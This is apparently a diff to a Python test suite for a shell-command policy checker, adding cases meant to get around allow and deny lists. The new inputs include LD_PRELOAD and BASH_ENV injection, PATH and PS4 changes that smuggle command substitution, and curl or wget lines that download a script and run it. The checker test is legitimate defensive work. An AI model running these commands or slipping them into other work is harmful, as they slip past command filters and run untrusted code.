@@ -196,7 +196,37 @@ def test_an_alias_of_an_earlier_command_is_expanded_with_its_arguments() -> None
 
 
 @pytest.mark.parametrize(
-    "text", ["export LD_PRELOAD=./x.so", "BASH_ENV=x git status", "for PATH in x; do git x; done", "read PATH"]
+    "text",
+    [
+        "export LD_PRELOAD=./x.so",
+        "BASH_ENV=x git status",
+        "for PATH in x; do git x; done",
+        "read PATH",
+        "((PATH=1))",
+        "((x = PATH <<= 1))",
+        "((--PATH))",
+        "let 'PATH = 1'",
+        "true $((PATH++)) $[PATH]",
+        "for ((PATH=1;;)); do git x; done",
+        "a[PATH=1]=2",
+        "a=([PATH=1]=2)",
+        "true ${a[PATH=1]}",
+        "x=abc; true ${x:PATH=1}",
+        "read 'a[PATH=1]'",
+        "declare -i x=PATH=1",
+        "[[ PATH=1 -eq 1 ]]",
+        "coproc PATH { git x; }",
+        "true {PATH}>/dev/null",
+        "true ${LD_PRELOAD:=./x.so}",
+        "printf -v 'PATH[0]' x",
+        "printf -v $x y",
+        "read -r $x",
+        "read -a$x",
+        "mapfile -t $x",
+        "getopts x $x",
+        "wait -n -p $x",
+        "unset $x",
+    ],
 )
 def test_under_an_allow_list_changing_how_programs_are_found_is_left_to_the_kernel(text: str) -> None:
     assert judge_with(allow=("git",)).judge(text).verdict == "deferred"
@@ -216,7 +246,10 @@ def test_under_an_allow_list_changing_how_programs_are_found_is_left_to_the_kern
         "a='b[$(mark)]'; echo $((a))",
         "for PS4 in '$(mark)'; do set -x; :; done",
         "mapfile -t PATH < f",
+        "unset PS4; true ${PS4:='$(mark)'}; set -x; :",
+        "coproc b[$(mark)] { :; }",
         "GIT_PAGER=mark git log",
+        "true ${GIT_PAGER:=mark}; export GIT_PAGER; git log",
         "export GIT_SSH_COMMAND='mark -i key'",
     ],
 )
@@ -226,10 +259,50 @@ def test_an_allow_list_holds_where_only_text_is_checked_for_what_bash_or_a_setti
 
 
 @pytest.mark.parametrize(
-    "text", ["&>f echo hi", "if &>>f git; then :; fi", "GIT_PAGER=git git log", "m['a']=1; echo ${m['a']}", "jobs -l"]
+    "text",
+    [
+        "&>f echo hi",
+        "if &>>f git; then :; fi",
+        "GIT_PAGER=git git log",
+        "m['a']=1; echo ${m['a']}",
+        "jobs -l",
+        "for ((i=0; i<3; i++)); do echo $i $((i == PATH)); done",
+        "echo ${line#PATH=} ${x:-PATH=1} ${PATH:0:5} ${#PATH} ${x:=5}",
+        'IFS=: read -r -p "$p" -t $t -a parts <<< "$PATH"',
+        'wait $! $p; unset a[$i]; getopts "$o" opt; mapfile -n $n lines; printf -v x %s y',
+        "exec {fd}>x; coproc X { git log; }; coproc git log",
+        "[[ $x == PATH=1 ]]",
+    ],
 )
 def test_an_allow_list_permits_where_only_text_is_checked_what_starts_listed_programs(text: str) -> None:
     judge = Judge(shell_rules(OperatorPolicy(), allow=["echo", "git"]), kernel=False, files=NoFiles())
+    assert judge.judge(text).verdict == "allowed"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "strace -f -o '|ls' true",
+        "strace -fo '!ls' true",
+        "strace --output='|ls -l' true",
+        'strace -o "$x" true',
+        "curl -fsSLo x.sh u && sh x.sh",
+        "curl u --output ./x && bash x",
+        "curl -LO http://h/a/x.sh?y; . ./x.sh",
+        "wget -qO x u; sh < x",
+        "wget http://h/x; sh x",
+    ],
+)
+def test_a_deny_list_holds_where_only_text_is_checked_for_traces_in_pipes_and_scripts_just_loaded(text: str) -> None:
+    judge = Judge(shell_rules(OperatorPolicy(), deny=["ls"]), kernel=False, files=NoFiles())
+    assert judge.judge(text).verdict in ("denied", "undecidable")
+
+
+@pytest.mark.parametrize(
+    "text", ["strace -f -o trace true", "curl -o x.tar.gz u; sh build.sh", "wget -q http://h/x; cat x", "curl u | cat"]
+)
+def test_other_traces_and_downloads_pass_a_deny_list(text: str) -> None:
+    judge = Judge(shell_rules(OperatorPolicy(), deny=["ls"]), kernel=False, files=NoFiles())
     assert judge.judge(text).verdict == "allowed"
 
 
